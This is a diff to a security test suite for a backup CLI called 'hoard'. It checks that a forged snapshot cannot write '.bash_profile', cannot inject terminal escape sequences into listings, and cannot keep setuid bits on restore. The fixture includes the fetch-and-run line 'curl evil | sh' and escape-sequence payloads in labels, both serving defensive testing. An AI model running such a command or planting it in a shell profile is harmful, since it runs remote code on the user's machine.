@@ -7,8 +7,9 @@
  *   source and job `constructor`;
  * - two snapshots of one folder, the first with a symlink `a` to a folder outside, the second with
  *   a real folder `a/` (restored one after the other into the same target);
- * - a setuid-root file restored by an unprivileged user, and a setuid file of another owner
- *   restored as root (kept only with that owner);
+ * - setuid files: restored into a folder they lose the bits (root's and other owners'); with
+ *   --keep-set-id they keep them only with their own owner, so an unprivileged restore of a
+ *   setuid-root file leaves none;
  * - a zstd frame expanding to 4 GiB behind an index entry that claims 1 MiB, and one claiming 4 GiB.
  * Dumps carrying shell escapes are in test/databases/hostile-dumps.test.ts (the same suite, per engine).
  * Every command runs as the real CLI (or `hoard serve`) under /usr/bin/time for its peak RSS.
@@ -106,6 +107,19 @@ describe('a hostile repository', () => {
     assert.deepEqual(await readdir(path.join(dir, 'tmp')), [], 'the drills left nothing behind');
     const list = await timed(['list', '--json'], dir, env);
     assert.equal(list.code, 0, list.stderr);
+    // a file name and a label that would reach a home folder or drive the terminal
+    const again = await openAsAttacker(path.join(dir, '.hoard', 'repo'), password);
+    const dot = await forgeSnapshot(again, { files: { '.bash_profile': Buffer.from('curl evil | sh\n') }, hoard: { kind: 'manual', label: 'x\u001b]0;PWNED\u0007\u001b[2J', reason: 'r\u001b[31m' } });
+    await again.close();
+    const dump = await timed(['dump', dot.slice(0, 12)], dir, env);
+    assert.equal(dump.code, 1, dump.stderr);
+    assert.match(dump.stderr, /names its file "\.bash_profile", which hoard does not write without being told/);
+    assert.equal(existsSync(path.join(dir, '.bash_profile')), false);
+    for (const args of [['list'], ['info', dot.slice(0, 12)], ['ls', dot.slice(0, 12)]]) {
+      const shown = await timed(args, dir, env);
+      assert.equal(shown.code, 0, shown.stderr);
+      assert.ok(!shown.stdout.includes('\u001b') && !shown.stdout.includes('\u0007'), `${args[0]} printed a control character: ${JSON.stringify(shown.stdout)}`);
+    }
   });
 
   it('a symlink to a folder outside, then a folder of the same name: the second restore writes only inside the target', async (t) => {
@@ -155,20 +169,26 @@ describe('a hostile repository', () => {
     await chown(path.join(data, 'their-tool'), 1234, 1234);
     await chmod(path.join(data, 'their-tool'), 0o6755);
     assert.equal((await hoard(['backup', 'data'], { cwd: dir, env })).code, 0);
-    // as root: owners are restored, so the bits stay with their owners
+    // as root into a folder: owners are restored, set-id bits are not (a hostile snapshot's
+    // setuid-root file would be a way in for whoever reaches the folder); --keep-set-id keeps them with their owners
     const asRoot = path.join(dir, 'as-root');
     const r = await timed(['restore', 'latest', '--target', asRoot], dir, env);
     assert.equal(r.code, 0, r.stderr);
-    const theirs = await stat(path.join(asRoot, 'data', 'their-tool'));
+    for (const tool of ['root-tool', 'their-tool']) assert.equal((await stat(path.join(asRoot, 'data', tool))).mode & 0o6000, 0, tool);
+    assert.equal((await stat(path.join(asRoot, 'data', 'their-tool'))).uid, 1234);
+    const kept = path.join(dir, 'kept');
+    assert.equal((await timed(['restore', 'latest', '--target', kept, '--keep-set-id'], dir, env)).code, 0);
+    const theirs = await stat(path.join(kept, 'data', 'their-tool'));
     assert.equal(theirs.uid, 1234);
-    assert.equal(theirs.mode & 0o7777, 0o6755);
+    assert.equal(theirs.mode & 0o7777, 0o6755, 'kept with its own owner');
+    assert.equal((await stat(path.join(kept, 'data', 'root-tool'))).mode & 0o7777, 0o4755);
     // as uid 1234 (its own copy of the repository): nothing it writes is setuid-root
     await run('cp', ['-a', path.join(dir, 'repo'), path.join(dir, 'repo-1234')]);
     await run('chown', ['-R', '1234:1234', path.join(dir, 'repo-1234')]);
     const mine = path.join(dir, 'as-user');
     await mkdir(mine);
     await chown(mine, 1234, 1234);
-    const u = await timed(['restore', 'latest', '--target', mine], mine, { HOARD_REPOSITORY: path.join(dir, 'repo-1234'), HOARD_PASSWORD: 'pw', HOME: mine }, ['setpriv', '--reuid=1234', '--regid=1234', '--clear-groups']);
+    const u = await timed(['restore', 'latest', '--target', mine, '--keep-set-id'], mine, { HOARD_REPOSITORY: path.join(dir, 'repo-1234'), HOARD_PASSWORD: 'pw', HOME: mine }, ['setpriv', '--reuid=1234', '--regid=1234', '--clear-groups']);
     bounded(u, 'unprivileged restore');
     assert.equal(u.code, 0, u.stderr);
     const tool = await stat(path.join(mine, 'data', 'root-tool'));
